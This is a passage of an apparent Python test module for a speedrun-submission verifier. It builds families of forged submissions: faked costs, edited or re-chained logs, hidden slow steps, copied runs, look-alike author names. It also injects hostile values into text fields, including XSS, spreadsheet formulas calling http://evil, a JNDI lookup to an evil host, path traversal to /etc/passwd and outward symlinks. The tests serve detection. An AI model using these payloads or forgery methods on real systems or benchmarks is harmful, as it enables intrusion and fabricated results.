"""The forgery corpus: families of dishonest submissions, each made from an honest one by what a forger would do.

A family is a function that spoils a copy of an honest submission in the `variant`-th way, and says which rung must tell and with
which words. `None` for a rung means that the file is not even read. `RAISED` is the ceiling of those that cannot be told from the truth.
"""

import dataclasses
import json
import os
import pathlib
import random
import shutil
from collections.abc import Callable
from typing import Any

from forgeries.editing import (
    bind,
    edit_log,
    edit_run,
    edit_run_json,
    log_events,
    replace_text,
    restate,
    results_of,
    set_figure,
    write_log,
)
from forgeries.honest import BEGIN, Plan, write_submission

from marin.speedrun.verdict import Rung
from marin.speedrun.verification import Context, KnownRun, known_runs_of
from marin.speedrun.verification.claims import KNOWN_SETS

Event = dict[str, Any]


@dataclasses.dataclass(frozen=True)
class Expected:
    """What must be found: a finding on `rung` whose message has all of `words`; `run` is the one that is spoiled."""

    rung: Rung | str | None
    words: tuple[str, ...]
    run: int = 0
    context: Context | None = None


def expect(rung: Rung | str | None, *words: str, run: int = 0, context: Context | None = None) -> Expected:
    return Expected(rung, words, run, context)


@dataclasses.dataclass(frozen=True)
class Bases:
    """Honest submissions that are copied before they are spoiled, and the known runs of one of them."""

    plain: pathlib.Path
    resumed: pathlib.Path
    seeds: pathlib.Path
    device: pathlib.Path
    known: tuple[KnownRun, ...]

    @staticmethod
    def make(folder: pathlib.Path) -> "Bases":
        rng = random.Random(7)
        plain = write_submission(
            folder / "plain", [Plan(steps=60, eval_every=20, wandb="https://wandb.ai/example/marin/runs/plain-1")], rng
        )
        resumed = write_submission(
            folder / "resumed", [Plan(steps=60, kills=(25, 44), wandb="https://wandb.ai/example/marin/runs/res-1")], rng
        )
        seeds = write_submission(folder / "seeds", [Plan(steps=40, seed=seed) for seed in range(3)], rng)
        device = write_submission(folder / "device", [Plan(steps=40, device="v5p-32", hidden=128)], rng)
        return Bases(plain, resumed, seeds, device, tuple(known_runs_of(plain, "plain")))

    def copy(self, base: str, to: pathlib.Path) -> pathlib.Path:
        shutil.copytree(getattr(self, base), to)
        return to


Family = Callable[[Bases, pathlib.Path, int], Expected]
FAMILIES: dict[str, tuple[Family, int]] = {}


def family(count: int) -> Callable[[Family], Family]:
    def add(function: Family) -> Family:
        FAMILIES[function.__name__] = (function, count)
        return function

    return add


def without_logs(directory: pathlib.Path) -> pathlib.Path:
    shutil.rmtree(directory / "logs")
    return directory


# --- figures of the results file alone ----------------------------------------------------------------------------

_COSTS = ("training_hardware_flops", "training_time", "model_flops", "total_tokens", "device_flops", "model_size")


@family(6)
def zero_cost(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    set_figure(without_logs(bases.copy("plain", to)), _COSTS[variant], 0)
    return expect("arithmetic", _COSTS[variant], "which no run has")


@family(6)
def negative_cost(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    set_figure(without_logs(bases.copy("plain", to)), _COSTS[variant], -1)
    return expect("arithmetic", _COSTS[variant], "which no run has")


@family(12)
def not_a_number(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    value = results_of(directory)["runs"][0]["run_info"][_COSTS[variant % 6]]
    literal = ("NaN", "Infinity")[variant // 6]
    replace_text(directory, f'"{_COSTS[variant % 6]}": {json.dumps(value)}', f'"{_COSTS[variant % 6]}": {literal}')
    return expect(None, literal, "is not a number")


@family(6)
def infinite_by_size(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    value = results_of(directory)["runs"][0]["run_info"][_COSTS[variant]]
    replace_text(directory, f'"{_COSTS[variant]}": {json.dumps(value)}', f'"{_COSTS[variant]}": 1e99{variant}')
    return expect(None, "too large for a number")


@family(6)
def null_cost(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    field = ("training_hardware_flops", "training_time", "model_flops", "total_tokens", "model_size", "resources")[
        variant
    ]
    set_figure(without_logs(bases.copy("plain", to)), field, None)
    if field == "resources":
        edit_run(to, lambda info: info.update(platform=None))
    return expect("arithmetic", "not stated")


@family(6)
def string_cost(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    value = results_of(directory)["runs"][0]["run_info"][_COSTS[variant]]
    set_figure(directory, _COSTS[variant], str(value))
    return expect(None, _COSTS[variant], "expected a valid")


@family(8)
def boolean_or_list_figures(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    field = ("training_time", "total_tokens", "model_flops", "seed")[variant % 4]
    set_figure(bases.copy("plain", to), field, (True, [1.0])[variant // 4])
    return expect(None, field, "expected a valid")


@family(6)
def duplicate_keys(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    replace_text(directory, f'"{_COSTS[variant]}":', f'"{_COSTS[variant]}": 1.0, "{_COSTS[variant]}":')
    return expect(None, _COSTS[variant], "appears twice")


@family(8)
def wrong_peak(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy(("plain", "device")[variant % 2], to))
    factor = (0.1, 0.5, 0.9, 2.0)[variant // 2]

    def change(info: dict[str, Any]) -> None:
        info["device_flops"] *= factor
        info["training_hardware_flops"] *= factor
        info["mfu"] /= factor
        info["traced_mfu"] /= factor

    edit_run(directory, change)
    return expect("arithmetic", "device_flops is", "but the peak of")


@family(6)
def typed_in_peak(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))
    peak = 1e13 * (variant + 1)

    def change(info: dict[str, Any]) -> None:
        info["training_hardware_flops"] = info["training_time"] * peak
        info["device_flops"] = info["resources"]["device_flops_override"] = peak
        info["mfu"], info["traced_mfu"] = (
            info["model_flops"] / info["training_hardware_flops"],
            info["traced_flops"] / info["training_hardware_flops"],
        )

    edit_run(directory, change)
    return expect("arithmetic", "typed in by the author")


@family(6)
def other_device_name(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """A run's own device renamed in the results, the log left as it is."""
    directory = bases.copy("plain", to)
    name = ("H100", "L4", "A10", "V100", "T4", "A40")[variant]
    edit_run(directory, lambda info: (info.update(device_name=name), info["resources"].update(accelerator_type=name)))
    return expect("log", "device_name is", "from the log it is 'A100'")


@family(6)
def miscounted_chips(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("device", to))
    chips = (1, 4, 8, 15, 32, 64)[variant]

    def change(info: dict[str, Any]) -> None:
        info["training_hardware_flops"] *= chips / info["num_chips"]
        info["num_chips"] = chips

    edit_run(directory, change)
    return expect("arithmetic", f"num_chips is {chips}", "v5p-32 has 16 chips")


@family(6)
def impossible_speed(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))

    def change(info: dict[str, Any]) -> None:
        info["training_time"] = info["model_flops"] / info["device_flops"] / (1.1 + variant)
        info["training_hardware_flops"] = info["training_time"] * info["device_flops"]
        info["mfu"], info["traced_mfu"] = (
            info["model_flops"] / info["training_hardware_flops"],
            info["traced_flops"] / info["training_hardware_flops"],
        )

    edit_run(directory, change)
    return expect("arithmetic", "MFU is", "cannot have done this work")


@family(6)
def wrong_tokens(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))
    factor = (0.5, 0.9, 0.99, 1.1, 2, 10)[variant]
    edit_run(directory, lambda info: info.update(total_tokens=int(info["total_tokens"] * factor)))
    return expect("arithmetic", "total_tokens is", "steps x")


@family(6)
def custom_flops(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """An architecture of one's own, whose figures nobody can compute again: never more than open."""
    directory = bases.copy("plain", to)
    if variant % 2:
        edit_run_json(directory, lambda info: info.update(model_class=f"__main__:Idea{variant}"), careful=True)
        return expect("arithmetic", "not recomputable", f"Idea{variant}")
    without_logs(directory)
    edit_run(directory, lambda info: info["model_config"].update({f"num_experts_{variant}": 8}))
    return expect("arithmetic", "settings of its own", "not recomputable")


# --- metric -------------------------------------------------------------------------------------------------------


def _of_known_set(directory: pathlib.Path, change: Callable[[dict[str, Any]], object]) -> None:
    known = KNOWN_SETS[0]

    def apply(info: dict[str, Any]) -> None:
        block = info["evaluation"]
        block.update(
            name=known.name,
            digest=known.digest,
            bytes=known.num_bytes,
            documents=known.num_documents,
            tokens=known.num_bytes // 3,
        )
        info["digests"]["evaluation_set"] = known.digest
        change(info)

    edit_run(directory, apply)


@family(8)
def byte_miscount(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))
    if variant < 5:
        factor = (1.01, 1.1, 1.5, 2.0, 1.0001)[variant]
        _of_known_set(
            directory, lambda info: info["evaluation"].update(bytes=int(info["evaluation"]["bytes"] * factor))
        )
        return expect("arithmetic", "evaluation.bytes is", "miscounted")
    if variant == 5:
        _of_known_set(directory, lambda info: info["evaluation"].update(documents=100))
        return expect("arithmetic", "evaluation.documents is 100")
    edit_run(
        directory,
        lambda info: info["evaluation"].update(bytes=info["evaluation"]["tokens"] * (50 if variant == 6 else 100)),
    )
    return expect("arithmetic", "bytes a token")


@family(8)
def other_metric_version(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))
    if variant < 2:
        edit_run(
            directory,
            lambda info: info.update(
                {"eval/paloma/c4_en/bpb": info["evaluation"]["bits_per_byte"] * (1 - 0.1 * variant)}
            ),
        )
        return expect("arithmetic", "C4-EN are stated, but the evaluation is of")
    if variant < 4:

        def as_c4(info: dict[str, Any]) -> None:
            info["evaluation"]["name"] = "paloma/c4_en"
            info["eval/paloma/c4_en/bpb"] = info["evaluation"]["bits_per_byte"] * (1 if variant == 2 else 0.9)

        edit_run(directory, as_c4)
        return expect(
            "arithmetic", "the mean over batches", "the sum over all bytes" if variant == 2 else "another figure"
        )
    if variant < 6:
        edit_run(directory, lambda info: info["evaluation"].update(metric_version=variant))
        return expect("arithmetic", "version", "of the metric")
    if variant == 6:
        _of_known_set(
            directory,
            lambda info: (info["evaluation"].update(digest="0" * 64), info["digests"].update(evaluation_set="0" * 64)),
        )
        return expect("arithmetic", "another version of the set")
    edit_run(
        directory,
        lambda info: info["evaluation"].update(levanter_bits_per_byte=3 * info["evaluation"]["bits_per_byte"]),
    )
    return expect("arithmetic", "not of one evaluation")


@family(6)
def better_quality_than_the_log(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    (directory / "logs" / "0" / "evaluation.json").unlink()
    factor = (0.1, 0.2, 0.3, 0.4, 0.55, 0.65)[variant]
    edit_run(
        directory,
        lambda info: info["evaluation"].update(
            {key: info["evaluation"][key] * factor for key in ("bits_per_byte", "levanter_bits_per_byte")}
        ),
    )
    return expect("log", "bits per byte", "the last losses of training")


@family(6)
def evaluation_edited(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    factor = 1 - 10.0 ** -(variant + 1)
    edit_run(
        directory,
        lambda info: info["evaluation"].update(
            {key: info["evaluation"][key] * factor for key in ("bits_per_byte", "levanter_bits_per_byte")}
        ),
    )
    return expect("log", "evaluation is", "evaluation.json")


# --- the log ------------------------------------------------------------------------------------------------------


@family(8)
def edited_log_line(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    def change(events: list[Event]) -> list[Event]:
        step = [event for event in events if event["event"] == "step"][5 * variant]
        step["loss"] = step["loss"] - 0.25
        return events

    edit_log(bases.copy("plain", to), change)
    return expect("log", "the hash chain breaks at line")


@family(6)
def results_edited_against_the_log(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    factor = (0.5, 0.9, 0.99, 0.999, 0.9999, 0.99999)[variant]

    def change(info: dict[str, Any]) -> None:
        for field in ("training_time", "training_hardware_flops"):
            info[field] *= factor
        for field in ("mfu", "traced_mfu"):
            info[field] /= factor

    edit_run(directory, change)
    return expect("log", "training_time is", "from the log it is")


def _steps(events: list[Event]) -> list[Event]:
    return [event for event in events if event["event"] == "step"]


@family(8)
def dropped_slow_steps(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """Slow steps left out; the careful forger numbers the rest anew, makes the chain again and restates the results."""
    renumbered = variant >= 4

    def change(events: list[Event]) -> list[Event]:
        slow = sorted(_steps(events)[1:-1], key=lambda event: -event["step_time"])[: 2 + variant % 4]
        gone = {event["step"] for event in slow}
        kept = [event for event in events if event["event"] != "step" or event["step"] not in gone]
        if renumbered:
            for number, event in enumerate(_steps(kept)):
                event["step"] = number
            kept[-1]["steps"] = len(_steps(kept))
        return kept

    directory = bases.copy("plain", to)
    edit_log(directory, change, careful=True)
    return (
        expect("log", "neither the clock nor a named pause") if renumbered else expect("log", "the first gap at step")
    )


def _lengthen(events: list[Event], step: Event, seconds: float) -> None:
    """Makes a step one that took `seconds`, as an honest log says it."""
    more = seconds - step["step_time"]
    for event in events[events.index(step) :]:
        event["time"] = round(event["time"] + more, 3)
    step["mfu_model_flops"] = round(step["mfu_model_flops"] * step["step_time"] / seconds, 5)
    step["step_time"] = seconds


@family(12)
def shortened_slow_steps(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    def change(events: list[Event]) -> list[Event]:
        slow = sorted(_steps(events), key=lambda event: -event["step_time"])[: 5 * (variant + 1)]
        if variant >= 8:  # one alone: the first, the last two, one in the middle
            slow = [_steps(events)[(0, -1, -2, 30)[variant - 8]]]
            _lengthen(events, slow[0], 0.6)
        for event in slow:
            event["mfu_model_flops"] = round(event["mfu_model_flops"] * 2, 5)
            event["step_time"] /= 2
        return events

    edit_log(bases.copy("plain", to), change, careful=True)
    return expect("log", "neither the clock nor a named pause")


@family(8)
def off_clock_work(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """The timer stands still around work between steps: at one place, or a little at every step."""
    seconds = (0.3, 1.0, 5.0, 60.0)[variant % 4]

    def change(events: list[Event]) -> list[Event]:
        at = len(events) // 2
        for number, event in enumerate(events):
            event["time"] = round(
                event["time"] + (seconds * number / len(events) if variant >= 4 else seconds * (number > at)), 3
            )
        return events

    edit_log(bases.copy("plain", to), change, careful=True)
    return expect("log", "neither the clock nor a named pause")


@family(8)
def false_pauses(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """Work off the clock under a name: one that the clock does not know, or that of something that was not done."""
    reason = (
        "tuning",
        "optimizer",
        "data loading",
        "evaluation",
        "evaluation",
        "checkpoint",
        "checkpoint",
        "hf export",
    )[variant]

    def change(events: list[Event]) -> list[Event]:
        shift, found = 0.0, []
        for event in events:
            found.append({**event, "time": round(event["time"] + shift, 3)})
            if event["event"] == "step" and event["step"] % 5 == 2:
                shift += 0.5
                found.append(
                    {
                        "event": "pause",
                        "reason": reason,
                        "step": event["step"],
                        "seconds": 0.5,
                        "time": round(event["time"] + shift, 3),
                    }
                )
        return found

    edit_log(bases.copy("plain", to), change, careful=True)
    words = {
        "evaluation": "where the config plans",
        "checkpoint": "the clock stopped for something else",
        "hf export": "does not plan",
    }
    return expect("log", words.get(reason, "the clock stops for"))


@family(6)
def resumed_tail_only(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """Only the last process's steps: in the results alone, or with the log cut and every figure restated."""
    directory = bases.copy("resumed", to)
    if variant < 3:
        events = log_events(directory)
        last = max(number for number, event in enumerate(events) if event["event"] == "start")
        time = sum(event["step_time"] for event in _steps(events[last:]))

        def change(info: dict[str, Any]) -> None:
            factor = time / info["training_time"]
            info.update(training_time=time, training_hardware_flops=info["training_hardware_flops"] * factor)
            info.update(mfu=info["mfu"] / factor, traced_mfu=info["traced_mfu"] / factor)
            if variant == 1:
                info.update(resumed=False)
            if variant == 2:
                info.update(num_resumes=0)

        edit_run(directory, change)
        return expect("log", "training_time is", "from the log it is")

    def tail(events: list[Event]) -> list[Event]:
        starts = [number for number, event in enumerate(events) if event["event"] == "start"]
        kept = events[starts[-1] if variant != 4 else starts[1] :]
        if variant == 5:  # numbered from 0
            first = kept[0]["from_step"]
            for event in kept:
                for field in ("from_step", "step"):
                    if field in event:
                        event[field] -= first
            kept[-1]["steps"] -= first
        return kept

    edit_log(directory, tail, careful=True)
    return expect("log", "its config plans") if variant == 5 else expect("log", "the first gap at step 0")


@family(8)
def time_travel(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    if variant < 2:
        shift = (4e8, 3e9)[variant]
        edit_log(directory, lambda events: [{**event, "time": event["time"] + shift} for event in events], careful=True)
        return expect("log", "has not come yet")
    if variant < 4:
        set_figure(
            without_logs(directory),
            "run_completion_timestamp",
            ("2099-01-01 00:00:00 UTC", "2040-02-03 04:05:06 UTC")[variant - 2],
        )
        return expect("arithmetic", "has not come yet")
    if variant == 4:
        set_figure(directory, "run_completion_timestamp", "2024-01-01 00:00:00 UTC")
        return expect("log", "run_completion_timestamp is")
    if variant == 5:
        return expect("log", "before its commit was made", context=Context(commit_time=lambda commit: BEGIN + 1e6))

    def backwards(events: list[Event]) -> list[Event]:
        events[len(events) // 2]["time"] -= 5.0 if variant == 6 else 3600.0
        return events

    edit_log(directory, backwards, careful=True)
    return expect("log", "time runs backwards")


@family(6)
def log_of_another_config(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    if variant == 0:
        edit_run_json(directory, lambda info: info["config"]["train"].update(num_train_steps=600), careful=True)
        return expect("log", "its config plans 600")
    if variant == 1:
        edit_run_json(directory, lambda info: info["config"]["train"].update(train_batch_size=4), careful=True)
        return expect("log", "tokens, its batch has 4 x")
    if variant == 2:
        edit_run_json(directory, lambda info: info.update(num_parameters=5_000), careful=True)
        return expect("log", "run.json says 5,000 parameters")
    if variant == 3:
        edit_run_json(directory, lambda info: info["seeds"].update(model=5))
        return expect("log", "the hash chain breaks at line 1")
    if variant == 4:
        edit_run_json(
            directory, lambda info: info.update(model_flops_per_token=info["model_flops_per_token"] / 2), careful=True
        )
        return expect("log", "model_flops_per_token is", "run.json says")
    edit_run(directory, lambda info: info["train_config"].update(learning_rate=0.5))
    return expect("log", "train_config is")


@family(8)
def broken_log(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    path = directory / "logs" / "0" / "metrics.jsonl"
    content = path.read_bytes()
    if variant == 0:
        path.write_bytes(content[:-20])
        return expect("log", "is cut off")
    if variant == 1:
        path.write_bytes(b"")
        return expect("log", "metrics.jsonl is empty")
    if variant == 2:
        path.write_bytes(content.replace(b'"step_time":', b'"step_time":"x","was":', 1))
        return expect("log", "`step_time` is 'x'", "expected seconds")
    if variant == 3:
        path.write_bytes(content.replace(b'"step_time":', b'"step_time":0.0,"step_time":', 1))
        return expect("log", "'step_time' appears twice")
    if variant == 4:
        path.write_bytes(content.replace(b'"step_time":', b'"step_time":-', 1))
        return expect("log", "`step_time` is '-", "expected seconds")
    if variant == 5:
        path.write_bytes(content.replace(b'"time":1', b'"time":1e999,"was":1', 1))
        return expect("log", "expected seconds")
    if variant == 6:
        path.write_bytes(b"[" * 20_000 + b"\n" + content)
        return expect("log", ":1", "nested too deep")
    path.unlink()
    return expect("log", "no such file")


@family(6)
def chain_removed(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """Without a chain, or with one only from some line on, the log rung stays open."""
    directory = bases.copy("plain", to)

    def change(events: list[Event]) -> list[Event]:
        for event in events[: len(events) if variant < 3 else 4 * variant]:
            event.pop("chain")
        return events

    events = change(log_events(directory))
    write_log(directory, events, chained=False)
    if variant < 3:
        bind(directory)
        restate(directory)
        return expect("log", "has no hash chain")
    return expect("log", "the hash chain breaks at line")


# --- copies -------------------------------------------------------------------------------------------------------


def _anonymous(info: dict[str, Any], name: str) -> None:
    info["author"] = {"name": name, "affiliation": "Elsewhere", "url": None}
    info["wandb_run_link"] = None


@family(8)
def copied_run_other_device(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """The figures of a known run under another author and on another device, the costs made to fit."""
    directory = without_logs(bases.copy("plain", to))
    device, peak = (("H100", 989.5e12), ("L4", 121e12), ("A10", 125e12), ("H200", 989.5e12))[variant % 4]

    def change(info: dict[str, Any]) -> None:
        _anonymous(info, "Eve Copy")
        info.update(
            digests=None, device_name=device, device_flops=peak, training_hardware_flops=info["training_time"] * peak
        )
        info["resources"].update(accelerator_type=device)
        if variant >= 4:
            info["training_time"] *= 1.004
            info["training_hardware_flops"] *= 1.004
        info["mfu"], info["traced_mfu"] = (
            info["model_flops"] / info["training_hardware_flops"],
            info["traced_flops"] / info["training_hardware_flops"],
        )

    edit_run(directory, change)
    context = Context(known=bases.known)
    if variant >= 4:
        return expect("arithmetic", "bits per byte are those of plain to the last digit", context=context)
    return expect(
        "arithmetic", "training_time is that of plain to the last digit, with another device", context=context
    )


@family(8)
def rounded_or_perturbed_copy(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))

    def change(info: dict[str, Any]) -> None:
        _anonymous(info, "Eve Copy")
        info["digests"] = None
        block = info["evaluation"]
        if variant < 4:
            digits = 3 + variant
            info["training_time"] = float(f"{info['training_time']:.{digits}g}")
            info["training_hardware_flops"] = info["training_time"] * info["device_flops"]
            info["mfu"] = info["traced_mfu"] = None
            info["model_flops"], info["model_flops_per_token"] = float(f"{info['model_flops']:.6g}"), None
            block["bits_per_byte"] = float(f"{block['bits_per_byte']:.{digits + 1}g}")
        else:
            factor = 1 + (1e-4, -3e-4, 8e-4, -1.5e-3)[variant - 4]
            info["training_time"] *= 2 - factor
            info["training_hardware_flops"] = info["training_time"] * info["device_flops"]
            info["mfu"] = info["traced_mfu"] = None
            for key in ("bits_per_byte", "levanter_bits_per_byte"):
                block[key] *= factor

    edit_run(directory, change)
    return expect("arithmetic", "of plain", "hand in the log", context=Context(known=bases.known))


@family(6)
def same_run_page(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("seeds", to))
    link = "https://wandb.ai/example/marin/runs/plain-1"
    changed = (
        link,
        link + "/",
        link + "?nw=1",
        link.upper().replace("HTTPS", "https"),
        link.replace("https", "http"),
        link + "/overview",
    )[variant]
    set_figure(directory, "wandb_run_link", changed)
    return expect("arithmetic", "the run's page is that of plain", context=Context(known=bases.known))


@family(6)
def known_log_under_another_name(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    edit_run(directory, lambda info: _anonymous(info, ("Eve Copy", "Mallory", "Trudy", "A", "B", "C")[variant]))
    return expect("log", "the log is that of plain", context=Context(known=bases.known))


@family(6)
def log_twice_in_a_submission(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """One log for two seeds: as it is, or with the seed changed, the chain made again and all restated."""
    directory = bases.copy("seeds", to)
    source, target = ((0, 1), (0, 2), (1, 2))[variant % 3]
    shutil.rmtree(directory / "logs" / str(target))
    shutil.copytree(directory / "logs" / str(source), directory / "logs" / str(target))
    if variant < 3:
        bind(directory, target)
        return expect("log", f"the log is that of run {source}, byte for byte", run=target)
    edit_run_json(directory, lambda info: info["seeds"].update(model=target), target, careful=True)
    return expect("log", "to the microsecond: the log was copied", run=target)


@family(8)
def curve_with_noise(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """A known run's log with noise on losses and times, of another seed, chain and results made again."""
    directory = bases.copy("plain", to)
    rng = random.Random(variant)
    on_times = variant < 4
    scale = (1e-3, 5e-3, 1e-2, 2e-2)[variant % 4]

    def change(events: list[Event]) -> list[Event]:
        shift = 0.0
        for event in events:
            if event["event"] == "step":
                old = event["step_time"]
                new = old * (1 + rng.gauss(0, scale)) if on_times else rng.uniform(0.04, 0.06)
                event["loss"] += rng.gauss(0, 0.02) if on_times else rng.gauss(0, (1e-5, 1e-4, 1e-3, 2e-3)[variant % 4])
                event["mfu_model_flops"] = round(event["mfu_model_flops"] * old / new, 5)
                event["step_time"] = round(new, 6)
                shift += new - old
            event["time"] = round(event["time"] + shift, 3)
        return events

    edit_run_json(directory, lambda info: info["seeds"].update(model=variant + 1))
    edit_log(directory, change, careful=True)
    edit_run(directory, lambda info: _anonymous(info, "Eve Copy"))
    words = "the log was copied" if on_times else "two seeds never come so close"
    return expect("log", words, context=Context(known=bases.known))


@family(6)
def seed_reuse(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("seeds", to)
    target = 1 + variant % 2
    if variant >= 2:
        without_logs(directory)
    edit_run(directory, lambda info: (info.update(seed=0), info["train_config"].update(seed=0)), target)
    return expect("arithmetic", "seed 0 of the same config is run 0's already", run=target)


@family(6)
def best_of_k(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """The best of many seeds: what was left out is not there to be seen, so it is asked for."""
    seeds = ((3, 17, 40), (0, 5, 6), (1, 3, 5), (2, 4, 9), (7,), (13,))[variant]
    write_submission(to, [Plan(steps=12, seed=seed) for seed in seeds], random.Random(variant))
    return expect("statistics", "as the best of many")


# --- names, texts and files ---------------------------------------------------------------------------------------


@family(12)
def look_alike_author(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("seeds", to))
    name, words = (
        ("Аda Example", "mixes"), ("Ada Ехample", "mixes"), ("Ada Εxample", "mixes"), ("Ada\u200b Example", "hides the character U+200B"),
        ("Ada\u202eelpmaxE", "hides the character U+202E"), ("Ada Examp1e", "looks like the known author"), ("Ada-Example", "looks like the known author"),
        ("Ada Example.", "looks like the known author"), ("Áda Example", "looks like the known author"), ("\u2060Ada Example", "hides"),
        ("Ada Exаmple", "mixes"), ("Ada  Exam\u00adple", "hides the character U+00AD"),
    )[variant]  # fmt: skip
    edit_run(directory, lambda info: info["author"].update(name=name))
    return expect("parsed", words, context=Context(known=bases.known))


_PAYLOADS = (
    ("<script>alert(1)</script>", "markup"),
    ("<svg onload=alert(1)>", "markup"),
    ('"><img src=x onerror=alert(1)>', "markup"),
    ('=HYPERLINK("http://evil","x")', "a spreadsheet formula"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "a spreadsheet formula"),
    ("{{ config.__class__ }}", "template code"),
    ("{% import os %}", "template code"),
    ("${jndi:ldap://evil/a}", "template code"),
    ("../../../etc/passwd", "a path that leads elsewhere"),
    ('<!--#exec cmd="ls"-->', "markup"),
)
_TEXT_FIELDS = (
    "author.name",
    "author.affiliation",
    "description",
    "tokenized_dataset",
    "git_commit",
    "evaluation.name",
    "sample",
    "digests.config",
    "device_name",
)


@family(90)
def payload(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """HTML, SVG, formulas, templates and paths in every field of text."""
    directory = without_logs(bases.copy("plain", to))
    text, what = _PAYLOADS[variant % len(_PAYLOADS)]
    set_figure(directory, _TEXT_FIELDS[variant // len(_PAYLOADS)], text)
    return expect("submission", "holds " + what)


@family(6)
def payload_in_keys_and_configs(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))
    text, what = _PAYLOADS[variant]
    if variant % 2:
        edit_run(directory, lambda info: info["model_config"].update({text: 1}))
    else:
        edit_run(directory, lambda info: info["train_config"].update(notes=[{"deep": text}]))
    return expect("submission", "holds " + what)


@family(6)
def script_links(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = without_logs(bases.copy("plain", to))
    link = (
        "javascript:alert(1)",
        "data:text/html,x",
        "//evil.example",
        "file:///etc/passwd",
        "https://a b",
        "ftp://example.org",
    )[variant]
    field = ("author.url", "wandb_run_link")[variant % 2]
    set_figure(directory, field, link)
    return expect("submission", field, "is no web address")


@family(8)
def hostile_json(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    path = directory / "speedrun_results.json"
    if variant == 0:
        path.write_bytes(b" " * (2 * 2**20 + 1))
        return expect(None, "over 2 MiB")
    if variant == 1:
        path.write_bytes(b"[" * 100_000)
        return expect(None, "nested more than")
    if variant == 2:
        set_figure(directory, "model_config", _nested(60))
        return expect(None, "nested more than")
    if variant == 3:
        replace_text(directory, '"seed": 0', '"seed": ' + "9" * 5000)
        return expect(None, "digits")
    if variant == 4:
        path.write_bytes(path.read_bytes()[:-100])
        return expect(None, "cut short")
    if variant == 5:
        path.write_bytes(b"\xff\xfe" + path.read_bytes())
        return expect(None, "not UTF-8")
    if variant == 6:
        set_figure(directory, "description", "x\ud800")
        return expect(None, "surrogate")
    (directory / "speedrun_results.json").write_text(json.dumps({"runs": [{"run_info": {}}] * 501}))
    return expect(None, "501 runs, at most")


def _nested(depth: int) -> dict[str, Any]:
    value: dict[str, Any] = {}
    for _ in range(depth):
        value = {"a": value}
    return value


@family(10)
def links_and_special_files(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    outside = to.parent / f"{to.name}-outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("secret")
    if variant == 0:
        shutil.move(directory / "speedrun_results.json", outside / "results.json")
        (directory / "speedrun_results.json").symlink_to(outside / "results.json")
        return expect(None, "a symbolic link that leads outside")
    if variant == 1:
        shutil.move(directory / "logs", outside / "logs")
        (directory / "logs").symlink_to(outside / "logs")
        return expect("log", "a symbolic link that leads outside")
    if variant == 2:
        (directory / "logs" / "0" / "metrics.jsonl").unlink()
        (directory / "logs" / "0" / "metrics.jsonl").symlink_to("/etc/hostname")
        return expect("log", "a symbolic link that leads outside")
    if variant == 3:
        (directory / "notes.txt").symlink_to("../" + outside.name + "/secret.txt")
        return expect("parsed", "notes.txt", "leads outside the directory")
    if variant == 4:
        (directory / "loop").symlink_to("loop")
        return expect("parsed", "loop", "leads outside the directory")
    if variant == 5:
        os.mkfifo(directory / "pipe")
        return expect("parsed", "pipe", "neither a file nor a directory")
    if variant == 6:
        (directory / "logs" / "0" / "metrics.jsonl").unlink()
        os.mkfifo(directory / "logs" / "0" / "metrics.jsonl")
        return expect("log", "not a regular file")
    if variant == 7:
        deep = directory
        for _ in range(14):
            deep = deep / "d"
